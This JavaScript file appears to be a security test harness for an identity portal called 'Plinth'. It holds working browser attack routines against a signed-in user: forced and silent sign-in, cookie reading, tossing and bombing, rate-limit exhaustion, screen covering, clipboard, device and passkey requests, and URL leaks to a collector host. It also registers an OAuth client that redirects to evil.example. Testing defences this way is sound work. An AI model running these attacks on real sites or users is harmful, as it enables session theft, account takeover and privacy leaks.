// The person in front of the browser: their sign-in, their cookies, their keyboard and devices.

const sessionCookies = [
  '__Host-idp-session',
  '__Host-idp-interaction',
  '__Host-idp-resume',
  '__Host-plinth',
  '__Host-plinth-device',
]

Object.assign(attacks, {
  signInSilently: () =>
    tries({
      frame: async () => {
        const frame = await load('iframe', { src: facts.authorize, hidden: true })
        await pause(1500)
        return frame.contentWindow.location.href
      },
      fetch: async () => (await fetch(facts.authorize, { credentials: 'include' })).url,
      followed: async () => (await fetch(facts.authorize, { credentials: 'include', mode: 'no-cors' })).url,
      window: async () => {
        const popup = open(facts.authorize)
        await pause(1500)
        return popup && popup.location.href !== 'about:blank' && popup.location.href
      },
      token: () =>
        answerTo(`${facts.portal}/idp/token`, {
          method: 'POST',
          body: new URLSearchParams({
            client_id: 'plinth-portal',
            grant_type: 'refresh_token',
            refresh_token: 'guessed',
          }),
        }),
      timing: () =>
        performance
          .getEntriesByType('resource')
          .map(({ name }) => name)
          .find((name) => name.includes('code=')),
    }),

  signInAsSomebodyElse: async () => {
    emptyFrame('login')
    const mallory = { name: 'Mallory', email: 'mallory@evil.example' }
    for (const path of ['/idp/interaction/guessed', '/idp/auth/guessed', '/idp/session/end/confirm']) {
      submit(
        { method: 'post', action: facts.portal + path, target: 'login' },
        { ...mallory, logout: 'yes', xsrf: 'guessed' },
      )
    }
    open(`${facts.portal}/redirect.html#code=planted&state=planted`)
    const forged = btoa(JSON.stringify({ id: 'planted', meta: { interactionType: 'redirect' } }))
    open(`${facts.portal}/redirect.html#code=planted&state=${encodeURIComponent(forged)}`)
    await pause(1000)
  },

  signOut: async () => {
    open(`${facts.portal}/idp/session/end`)
    new Image().src = `${facts.portal}/idp/session/end`
    await fetch(`${facts.portal}/idp/session/end/confirm`, {
      method: 'POST',
      mode: 'no-cors',
      credentials: 'include',
      body: new URLSearchParams({ logout: 'yes' }),
    })
    await pause(500)
  },

  readSessionCookie: () =>
    tries({
      document: () => document.cookie.includes('__Host-') && document.cookie,
      store: async () =>
        (await cookieStore.getAll())
          .map(({ name, value }) => name.startsWith('__Host-') && value)
          .find(Boolean),
      response: async () => (await fetch('/index.html')).headers.get('set-cookie'),
      trace: () => answerTo('/index.html', { method: 'TRACK' }),
    }),

  tossCookies: async () => {
    const names = [...sessionCookies, ...sessionCookies.map((name) => `${name}.sig`), '_session', 'session']
    for (const name of names) {
      for (const scope of [
        `; domain=${facts.domain}`,
        '',
        `; domain=${facts.domain}; secure; samesite=none`,
      ]) {
        document.cookie = `${name}=tossed; path=/${scope}`
        document.cookie = `=${name}=tossed; path=/${scope}`
        document.cookie = `${name.toLowerCase()}=tossed; path=/${scope}`
        document.cookie = ` ${name} =tossed; path=/${scope}`
        document.cookie = `${name}=tossed; path=/idp${scope}`
        document.cookie = `${name}=tossed; path=/.plinth${scope}; secure; partitioned`
      }
    }
    await pause(100)
  },

  bombCookies: () => {
    for (let count = 0; count < 100; count += 1) {
      document.cookie = `bomb${count}=${'x'.repeat(4000)}; domain=${facts.domain}; path=/; max-age=86400`
    }
  },

  // Too much of anything is answered with 431. Only if cookies are too much may the answer delete them.
  clearCookiesByLongAddress: async () => {
    document.cookie = `kept=${'x'.repeat(1000)}; domain=${facts.domain}; path=/`
    const long = 'x'.repeat(20_000)
    for (const host of [facts.portal, facts.sibling, location.origin]) {
      await fetch(`${host}/?${long}`, { mode: 'no-cors', credentials: 'include' }).catch(() => {})
      await load('img', { src: `${host}/${long}` }).catch(() => {})
    }
    await pause(300)
  },

  // Calls from another origin must not use up what the person may call themselves.
  useUpRateLimit: async () => {
    const options = { mode: 'no-cors', credentials: 'include' }
    for (let count = 0; count < facts.ratePerAddress; count += 20) {
      await Promise.all(
        Array.from({ length: 20 }, () =>
          fetch(`${facts.portal}/api/v1/config?${count}`, options).catch(() => {}),
        ),
      )
    }
  },

  coverPortal: async () => {
    document.documentElement.requestFullscreen?.call(null).catch?.(() => {})
    const cover = document.createElement('div')
    cover.style.cssText = 'position:fixed;inset:-500px;z-index:2147483647;background:red'
    cover.popover = 'manual'
    document.body.append(cover)
    cover.showPopover()
    const dialog = document.body.appendChild(document.createElement('dialog'))
    dialog.showModal()
    parent.postMessage({ type: 'plinth:shown', style: 'position:fixed;inset:0' }, '*')
    try {
      resizeTo(5000, 5000)
      moveTo(-500, -500)
    } catch {}
    await pause(300)
    cover.remove()
    dialog.remove()
  },

  readClipboard: () =>
    tries({ text: () => navigator.clipboard.readText(), items: () => navigator.clipboard.read() }),

  useDevices: () =>
    tries({
      location: () =>
        new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
      camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
      microphone: () => navigator.mediaDevices.getUserMedia({ audio: true }),
      screen: () => navigator.mediaDevices.getDisplayMedia(),
      usb: () => navigator.usb.requestDevice({ filters: [] }),
      serial: () => navigator.serial.requestPort(),
      hid: () => navigator.hid.requestDevice({ filters: [] }),
      bluetooth: () => navigator.bluetooth.requestDevice({ acceptAllDevices: true }),
      midi: () => navigator.requestMIDIAccess({ sysex: true }),
      payment: () =>
        new PaymentRequest([{ supportedMethods: 'https://pay.example' }], {
          total: { label: 'All', amount: { currency: 'EUR', value: '1' } },
        }),
    }),

  lockPointer: () =>
    tries({
      pointer: () => top !== self && document.body.requestPointerLock().then(() => 'locked'),
      keyboard: () => top !== self && navigator.keyboard.lock().then(() => 'locked'),
      screen: () => top !== self && screen.orientation.lock('portrait').then(() => 'locked'),
    }),

  // Any host below a domain may ask for its passkeys.
  usePasskeys: () =>
    tries({
      get: () =>
        navigator.credentials
          .get({ publicKey: { challenge: new Uint8Array(32), rpId: facts.domain, timeout: 3000 } })
          .then(({ id }) => id),
      create: () =>
        navigator.credentials
          .create({
            publicKey: {
              challenge: new Uint8Array(32),
              rp: { id: facts.domain, name: 'Plinth' },
              user: { id: new Uint8Array(16), name: 'x', displayName: 'x' },
              pubKeyCredParams: [{ type: 'public-key', alg: -7 }],
              timeout: 3000,
            },
          })
          .then(({ id }) => id),
    }),

  trapHistory: async () => {
    for (let count = 0; count < 60; count += 1) history.pushState(null, '', `#${count}`)
    addEventListener('popstate', () => history.pushState(null, '', '#trapped'))
    addEventListener('beforeunload', (event) => {
      event.preventDefault()
      event.returnValue = 'Stay'
    })
    addEventListener('pagehide', () => open(elsewhere(), '_top'))
  },

  leakByReferrer: async () => {
    for (const referrerPolicy of ['unsafe-url', 'no-referrer-when-downgrade']) {
      await fetch(`${facts.collector}/?by=referrer`, { mode: 'no-cors', referrerPolicy }).catch(() => {})
    }
    leak('referrer', document.referrer)
    leak('navigation', JSON.stringify(performance.getEntriesByType('navigation')))
    leak('entries', JSON.stringify(globalThis.navigation?.entries().map(({ url }) => url)))
    leak('addresses', `${location.href} ${document.baseURI} ${JSON.stringify(location.ancestorOrigins)}`)
    await pause(200)
  },

  connectAgent: async () => {
    const registered = await fetch(`${facts.portal}/oauth/register`, {
      method: 'POST',
      body: JSON.stringify({ redirect_uris: ['https://evil.example/'], client_name: 'Planted' }),
    }).catch(() => undefined)
    leak('client', registered && (await registered.text()))
    open(
      `${facts.portal}/oauth/authorize?client_id=planted&response_type=code&redirect_uri=https://evil.example/`,
    )
    await pause(500)
  },
})
